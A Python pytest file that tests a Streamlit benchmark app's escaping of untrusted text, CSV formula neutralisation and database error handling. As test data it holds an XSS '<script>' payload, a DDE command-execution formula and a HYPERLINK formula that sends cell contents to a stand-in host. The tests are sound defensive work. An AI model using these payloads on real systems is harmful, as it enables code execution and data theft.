"""Issue 11 in the app and in `init`: untrusted text reaches every page only as plain text,
database problems are one st.error (no traceback), a read-only database is browsable with a
notice and refuses writes, CSV downloads cannot run formulas, built-in sets that runs use
survive `init`.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from core import store as storage
from core.benchmarks.misprompt.taxonomy import JUDGE_LABELS
from core.store import Store, database
from tests.conftest import copy_of
from tests.misprompt_fixtures import insert_verdicts

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")

EVIL = "costs $5 and $10 ![x](http://127.0.0.1:9/x) <script>alert(1)</script> **bold**"
# What must never appear in a Markdown-rendered element: an unescaped $ (LaTeX), an image,
# a raw tag, bold markers.
UNESCAPED = [
    re.compile(r"(?<!\\)\$(5|10)"),
    re.compile(r"!\[x\]"),
    re.compile(r"<script>"),
    re.compile(r"\*\*bold\*\*"),
]


def _open(page: str, timeout: float = 120, **params: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=timeout)
    at.switch_page(page)
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def markdown_texts(at: AppTest) -> list[str]:
    """Every string the app hands to Streamlit's Markdown renderer: Markdown, captions, titles,
    alerts, and the labels/options that Streamlit renders as Markdown."""
    out: list[str] = []
    for kind in (
        "markdown",
        "caption",
        "title",
        "header",
        "subheader",
        "error",
        "warning",
        "info",
        "success",
        "latex",
    ):
        out += [str(e.value) for e in getattr(at, kind, [])]
    for e in at.expander:
        out.append(str(e.label))
    for r in at.radio:
        out.append(str(r.label))
        out += [str(o) for o in r.options]
    for kind in (
        "checkbox",
        "toggle",
        "button",
        "selectbox",
        "multiselect",
        "text_input",
        "text_area",
        "metric",
        "tabs",
    ):
        for e in getattr(at, kind, []):
            label = getattr(e, "label", None)
            if label is not None:
                out.append(str(label))
    return out


def plain_texts(at: AppTest) -> list[str]:
    return [str(c.value) for c in at.code] + [str(t.value) for t in at.text]


def assert_plain(at: AppTest, where: str, expected_min: int = 1) -> None:
    leaks = [(p.pattern, t) for t in markdown_texts(at) for p in UNESCAPED if p.search(t)]
    assert not leaks, f"{where}: untrusted text rendered as Markdown: {leaks[:3]}"
    shown = [t for t in plain_texts(at) if EVIL in t]
    assert len(shown) >= expected_min, f"{where}: the text itself must still be shown"


# -- fixtures -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def _evil_template(tmp_path_factory, _initialised_template) -> Path:
    """The initialised store with items, a judged run, an audit and BBM traces whose every
    text field is EVIL, written once for this module; `evil_db` copies it."""
    tmp_path = tmp_path_factory.mktemp("evil")
    store = copy_of(_initialised_template, tmp_path / "evil.duckdb")
    items = pd.DataFrame(
        {
            "item_set": "evil",
            "item_id": ["evil-1", "evil-2"],
            "benchmark": "misprompt",
            "split": "test",
            "is_error": [True, False],
            "primary_category": ["Language Errors", None],
            "secondary_category": ["Spelling Errors", None],
            "prompt": EVIL,
            "explanation": [EVIL, None],
            "gold": EVIL,
            "payload": None,
        }
    )
    responses = pd.DataFrame(
        {
            "run_id": "evil-run",
            "item_id": ["evil-1", "evil-2"],
            "variant": "zero-shot",
            "status": "ok",
            "messages": json.dumps([{"role": "user", "content": EVIL}]),
            "response": EVIL,
            "attempts": 1,
        }
    )
    verdicts = pd.DataFrame(
        {
            "run_id": "evil-run",
            "item_id": ["evil-1", "evil-2"],
            "variant": "zero-shot",
            "judge_model": "judge",
            "status": "ok",
            **{label: [True, False] for label in JUDGE_LABELS},
            "rationales": json.dumps({label: EVIL for label in JUDGE_LABELS}),
            "raw": EVIL,
            "parse_note": "schema",
            "inconsistent": False,
        }
    )

    def write(con) -> None:
        storage.replace_item_set(con, "evil", "misprompt", items, origin="test")
        con.execute(
            "INSERT INTO runs (run_id, benchmark, item_set, model, endpoint, setting, "
            "mode, judge_model, status, n_planned) VALUES ('evil-run', 'misprompt', "
            "'evil', 'm', 'test', 'zero-shot', 'proactive', 'judge', 'done', 2)"
        )
        storage.insert_frame(con, "responses", responses)
        insert_verdicts(con, verdicts)

    store.transaction(write)
    from core.services import audit

    audit.create_audit(store, "evil-audit", ["evil-run"], 1.0, 0, "primary")
    traces = tmp_path / "word_sorting.jsonl"
    traces.write_text(
        json.dumps(
            {
                "input": EVIL,
                "steps": [EVIL, "fine"],
                "answer": EVIL,
                "target": EVIL,
                "mistake_index": 0,
            }
        )
        + "\n"
    )
    from core.benchmarks.bbm.items import import_files

    import_files(store, [traces], name="evil-bbm")
    return store.path


@pytest.fixture
def evil_db(db_path: Path, _evil_template: Path) -> Store:
    """Items, a judged run, an audit and BBM traces whose every text field is EVIL (each test
    its own copy)."""
    return copy_of(_evil_template, db_path)


def test_untrusted_text_is_plain_text_on_the_playground(evil_db):
    at = _open(
        "pages/playground.py",
        pg_primary="Language Errors",
        pg_secondary="Spelling Errors",
        pg_item="evil/evil-1",
    )
    assert_plain(at, "playground", expected_min=3)  # prompt, what is wrong, ground truth


def test_untrusted_text_is_plain_text_in_the_audit(evil_db):
    at = _open("pages/judge_audit.py", audit="evil-audit", annotator="ann", au_view="Label")
    assert_plain(at, "judge audit", expected_min=2)  # prompt, response (+ gold / explanation)
    # the judge's rationales are hidden until the item is saved (blind labelling); shown on
    # request, they are plain text too
    shown = _open(
        "pages/judge_audit.py",
        audit="evil-audit",
        annotator="ann",
        au_view="Label",
        au_judge="true",
    )
    assert_plain(shown, "judge audit, judge shown", expected_min=3)


def test_untrusted_text_is_plain_text_in_the_misprompt_drill_down(evil_db):
    at = _open("pages/misprompt_results.py", view="Runs", run="evil-run", item="evil-1")
    assert_plain(at, "Mis-prompt results", expected_min=3)


def test_untrusted_text_is_plain_text_in_the_bbm_trace_view(evil_db):
    at = _open("pages/mistake_finding.py", trace_set="evil-bbm", trace="word_sorting:1")
    assert_plain(at, "mistake finding", expected_min=1)
    steps = [m.value for m in at.markdown if "bbm-step" in m.value]
    assert steps and "&#36;5" in steps[0] and "&#60;script&#62;" in steps[0]


def test_untrusted_text_is_plain_text_in_the_anchoring_drill_down(initialised_store):
    from tests.fake_openai import FakeOpenAI
    from tests.test_errorbench_run import cli, responder

    with FakeOpenAI(responder=responder) as server:
        assert (
            cli(
                [
                    "run",
                    "errorbench",
                    "--items",
                    "errorbench-sample",
                    "--limit",
                    "1",
                    "--base-url",
                    server.url,
                    "--model",
                    "scripted",
                    "--run-name",
                    "eb-evil",
                    "--quiet",
                ]
            )
            == 0
        )
    store = initialised_store
    store.execute("UPDATE responses SET response = ? WHERE run_id = 'eb-evil'", [EVIL])
    # the passage itself: EVIL appended to its first sentence (marks keep their indices)
    item_id, payload, prompt = store.rows(
        "SELECT r.item_id, i.payload, i.prompt FROM responses r JOIN items i ON i.item_id = "
        "r.item_id AND i.item_set = 'errorbench-sample' WHERE r.run_id = 'eb-evil' LIMIT 1"
    )[0]
    payload = json.loads(payload)
    payload["sentences"][0]["tokens"] += EVIL.split(" ")
    store.execute(
        "UPDATE items SET payload = ?, prompt = ? WHERE item_set = 'errorbench-sample' "
        "AND item_id = ?",
        [json.dumps(payload), prompt + " " + EVIL, item_id],
    )
    at = _open(
        "pages/anchoring.py", eb_drill_run="eb-evil", eb_drill_cond="anchored", eb_passage=item_id
    )
    assert_plain(at, "anchoring", expected_min=2)  # raw response, prompt sent
    passage = [m.value for m in at.markdown if "eb-sentence" in m.value]
    assert passage and "&#36;5" in passage[0] and "$5" not in passage[0]


def test_md_escape_and_html_text_leave_nothing_to_interpret():
    from pages.ui.common import html_text, md_escape

    escaped = md_escape(EVIL)
    assert escaped == (
        "costs \\$5 and \\$10 !\\[x\\](http://127.0.0.1:9/x) "
        "\\<script\\>alert(1)\\</script\\> \\*\\*bold\\*\\*"
    )
    assert (
        md_escape("# 1. snake_case _em_ :red[x] a\nb")
        == "\\# 1. snake_case \\_em\\_ \\:red\\[x\\] a b"
    )
    assert md_escape("1. first") == "1\\. first"
    html = html_text(EVIL + "\n\nnext")
    assert not any(ch in html for ch in "$*[]<>\n") and "&#36;5" in html


# -- CSV downloads --------------------------------------------------------------------------------


def test_neutralise_formulas_prefixes_formula_cells_only():
    from core.services.csvsafe import neutralise_formulas

    frame = pd.DataFrame(
        {
            "text": [
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "plain",
                "-5",
                "+1.5",
                None,
            ],
            "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
        }
    )
    out = neutralise_formulas(frame)
    assert list(out["text"][:9]) == [
        "'=cmd|' /C calc'!A0",
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "plain",
        "-5",
        "+1.5",
    ]
    assert pd.isna(out["text"].iloc[9]) and list(out["n"]) == list(frame["n"])
    assert frame["text"].iloc[0] == "=cmd|' /C calc'!A0"  # the input is not changed


def test_every_download_helper_neutralises(monkeypatch):
    from pages.ui import common

    seen: dict[str, bytes] = {}
    monkeypatch.setattr(
        common.st,
        "download_button",
        lambda label, data, **kw: seen.__setitem__(kw["file_name"], data),
    )
    common.download(pd.DataFrame({"q": ['=HYPERLINK("http://x")', "ok"]}), "t")
    common.download_csv_bytes(b"q,n\n=1+1,-3\n", "b")
    assert seen["t.csv"].decode().splitlines()[1] == '"\'=HYPERLINK(""http://x"")"'
    assert seen["b.csv"].decode().splitlines() == ["q,n", "'=1+1,-3"]


FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'


def test_every_download_the_pages_offer_is_formula_safe(evil_db, monkeypatch):
    """Every file a page offers, with item and response texts that a spreadsheet would run:
    each CSV holds them only neutralised (core.services.csvsafe), and the one file offered as is, the
    import template, is our own shipped sample."""
    import csv
    import io

    import streamlit

    evil_db.execute("UPDATE items SET prompt = ? WHERE item_set = 'evil'", [FORMULA])
    evil_db.execute("UPDATE responses SET response = ? WHERE run_id = 'evil-run'", [FORMULA])
    offered: dict[str, bytes] = {}
    real = streamlit.download_button

    def recording(label, data, *args, **kwargs):
        raw = data.encode() if isinstance(data, str) else data
        offered[kwargs["file_name"]] = raw
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    at = _open("pages/import_data.py")
    at.selectbox(key="dl_set").set_value("evil").run()
    assert not at.exception, [e.value for e in at.exception]
    at = _open("pages/misprompt_results.py", view="Runs", run="evil-run", item="evil-1")
    at.checkbox(key="prep_dl").check().run()
    assert not at.exception, [e.value for e in at.exception]
    _open("pages/grid.py", g_bench="misprompt", g_set="evil", g_runs="evil-run")
    _open("pages/judge_audit.py", audit="evil-audit", annotator="ann", au_view="Export / import")

    samples = ROOT / "data" / "samples"
    as_is = {n for n, raw in offered.items() if (samples / n).is_file()}
    assert as_is == {"misprompt_sample.csv"}  # the Import page's template
    assert offered["misprompt_sample.csv"] == (samples / "misprompt_sample.csv").read_bytes()
    cells = {
        name: [c for row in csv.reader(io.StringIO(raw.decode("utf-8"))) for c in row]
        for name, raw in offered.items()
        if name not in as_is
    }
    assert {"evil.csv", "run_evil-run.csv", "labels_evil-audit.csv"} <= set(cells)
    runnable = {
        (name, c) for name, cs in cells.items() for c in cs if c.startswith(("=", "@", "\t"))
    }
    assert not runnable
    assert "'" + FORMULA in cells["evil.csv"] and "'" + FORMULA in cells["run_evil-run.csv"]
    assert any("'" + FORMULA in cs for name, cs in cells.items() if name.startswith("responses_"))


# -- database states in the app -------------------------------------------------------------------


def _overview(db: Path, monkeypatch) -> AppTest:
    monkeypatch.setenv("EHW_DB", str(db))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_app_with_no_database_says_run_init_and_creates_nothing(tmp_path, monkeypatch):
    db = tmp_path / "none" / "results.duckdb"
    at = _overview(db, monkeypatch)
    assert any(f"No database at {db}" in e.value for e in at.error)
    assert not db.exists() and not db.parent.exists()


def test_app_database_deleted_while_running_is_reported_not_recreated(
    initialised_store, monkeypatch
):
    db = initialised_store.path
    at = _overview(db, monkeypatch)
    assert not at.error
    db.unlink()
    for page in ("pages/overview.py", "pages/misprompt_results.py", "pages/runs.py"):
        at.switch_page(page)
        at.run()
        assert not at.exception, [e.value for e in at.exception]
        assert any(
            "was deleted or moved while the app was running; run `python -m core init` "
            "or restore it" in e.value
            for e in at.error
        ), page
    assert not db.exists()


def test_app_damaged_database_is_one_error(initialised_store, monkeypatch):
    db = initialised_store.path
    db.write_bytes(db.read_bytes()[:5000])
    at = _overview(db, monkeypatch)
    assert [e.value for e in at.error if "could not be opened as a DuckDB database" in e.value]


def test_app_bad_schema_version_is_one_error(initialised_store, monkeypatch):
    initialised_store.execute("UPDATE meta SET value = 'v2' WHERE key = 'schema_version'")
    at = _overview(initialised_store.path, monkeypatch)
    assert any("which is not a whole number" in e.value for e in at.error)


@pytest.fixture
def readonly_app_db(initialised_store, monkeypatch) -> Path:
    """As in test_bad_input: os.access says the folder is not writable (tests run as root)."""
    from tests.misprompt_fixtures import insert_run, random_verdicts

    insert_run(initialised_store, "ro-run", random_verdicts(6, 2))
    folder = initialised_store.path.parent.resolve()
    real_access = os.access

    def access(path, mode, *args, **kwargs):
        if mode & os.W_OK and Path(path).resolve().is_relative_to(folder):
            return False
        return real_access(path, mode, *args, **kwargs)

    monkeypatch.setattr(database.os, "access", access)
    return initialised_store.path


def test_app_read_only_database_browses_with_a_notice_and_refuses_writes(
    readonly_app_db, monkeypatch
):
    before = readonly_app_db.read_bytes()
    at = _overview(readonly_app_db, monkeypatch)
    assert any(
        "Read-only database" in w.value and "runs, imports and labels are disabled" in w.value
        for w in at.warning
    )
    assert at.dataframe  # browsing works
    at.switch_page("pages/import_data.py")
    at.run()
    at.file_uploader(key="upload_misprompt").set_value(
        ("mine.csv", b"id,question,error\nc1,Capital of France?,no_error\n", "text/csv")
    )
    at.run()
    assert at.button(key="do_import").disabled  # the import is offered disabled
    at.switch_page("pages/judge_audit.py")
    at.run()
    at.button(key="au_draw").click()  # a write attempted anyway
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert any(
        "is read-only" in e.value and "writes (runs, imports, labels) are disabled" in e.value
        for e in at.error
    )
    assert readonly_app_db.read_bytes() == before


# -- item sets that runs use ----------------------------------------------------------------------


def test_import_page_refuses_a_set_that_runs_use(initialised_store):
    initialised_store.execute(
        "INSERT INTO runs (run_id, benchmark, item_set, status) VALUES "
        "('used-1', 'misprompt', 'misprompt-sample', 'done')"
    )
    before = initialised_store.rows("SELECT * FROM items WHERE item_set = 'misprompt-sample'")
    at = _open("pages/import_data.py", timeout=60)
    at.file_uploader(key="upload_misprompt").set_value(
        ("misprompt-sample.csv", b"id,question,error\nc1,Capital of France?,no_error\n", "text/csv")
    )
    at.run()
    at.button(key="do_import").click()
    at.run()
    assert not at.exception
    problems = "\n".join(c.value for c in at.code)
    assert "item set 'misprompt-sample' is used by 1 run(s) (used-1)" in problems
    assert "--name misprompt-sample-2" in problems
    assert (
        initialised_store.rows("SELECT * FROM items WHERE item_set = 'misprompt-sample'") == before
    )


def _all_rows(store: Store) -> dict[str, list]:
    from tests.test_bad_input import snapshot

    return snapshot(store)


def test_init_with_runs_on_the_samples_is_a_no_op(initialised_store):
    from core.registry import BENCHMARKS
    from core.services.setup import init

    for k, name in enumerate(
        b.imports.builtin[0] for b in BENCHMARKS.values() if b.imports.builtin
    ):
        initialised_store.execute(
            "INSERT INTO runs (run_id, benchmark, item_set, status) "
            "SELECT ?, benchmark, name, 'done' FROM item_sets "
            "WHERE name = ?",
            [f"r{k}", name],
        )
    before = _all_rows(initialised_store)
    warnings: list[str] = []
    init(initialised_store, warnings)
    assert warnings == []
    assert _all_rows(initialised_store) == before


def test_init_keeps_a_used_builtin_set_whose_file_changed_and_warns(
    initialised_store, tmp_path, monkeypatch
):
    from core.services import setup

    samples = tmp_path / "samples"
    shutil.copytree(setup.SAMPLES_DIR, samples)
    csv = samples / "misprompt_sample.csv"
    lines = csv.read_text(encoding="utf-8").split("\n")
    csv.write_text("\n".join(lines[:1] + lines[2:]), encoding="utf-8")  # one item fewer
    bbm = samples / "bbm_sample.jsonl"
    bbm.write_text("\n".join(bbm.read_text(encoding="utf-8").split("\n")[1:]), encoding="utf-8")
    monkeypatch.setattr(setup, "SAMPLES_DIR", samples)
    initialised_store.execute(
        "INSERT INTO runs (run_id, benchmark, item_set, status) VALUES "
        "('keep-me', 'misprompt', 'misprompt-sample', 'done')"
    )
    before = initialised_store.rows("SELECT * FROM items WHERE item_set = 'misprompt-sample'")
    warnings: list[str] = []
    counts = setup.init(initialised_store, warnings)
    assert len(warnings) == 1
    assert (
        "misprompt_sample.csv changed since item set 'misprompt-sample' was loaded, but 1 "
        "run(s) use that set (keep-me); kept the old set"
    ) in warnings[0]
    assert "python -m core import misprompt" in warnings[0]
    assert "--name misprompt-sample-2" in warnings[0]
    assert (
        initialised_store.rows("SELECT * FROM items WHERE item_set = 'misprompt-sample'") == before
    )
    assert counts["items:misprompt-sample"] == 88
    # a sample no run uses follows its file
    assert counts["items:bbm-sample"] == 11


# -- read-only database: nothing starts a run ----------------------------------------------------


@pytest.mark.parametrize(
    "page", ["pages/anchoring.py", "pages/mistake_finding.py", "pages/runs.py"]
)
def test_read_only_database_offers_every_start_button_disabled(readonly_app_db, monkeypatch, page):
    """Anchoring and Mistake finding started a process (and made run-logs/ beside the file).
    AppTest refuses to click a disabled button, as a browser does."""
    from core.services import jobs

    started: list = []
    monkeypatch.setattr(jobs.subprocess, "Popen", lambda *a, **k: started.append(a))
    at = _overview(readonly_app_db, monkeypatch)
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    starts = [b for b in at.button if b.label == "Start run"]
    assert starts and all(b.disabled for b in starts)
    assert any(
        "Read-only database" in i.value and "runs, imports and labels are disabled" in i.value
        for i in at.info
    )
    assert not started
    assert not (readonly_app_db.parent / jobs.LOG_DIR_NAME).exists()


def test_starting_a_job_on_a_read_only_database_is_refused_before_any_file(readonly_app_db):
    from core.services import jobs

    with pytest.raises(storage.DatabaseReadOnly, match="is read-only"):
        jobs.start_cli_run(["run", "misprompt", "--items", "misprompt-sample"], readonly_app_db)
    assert not (readonly_app_db.parent / jobs.LOG_DIR_NAME).exists()
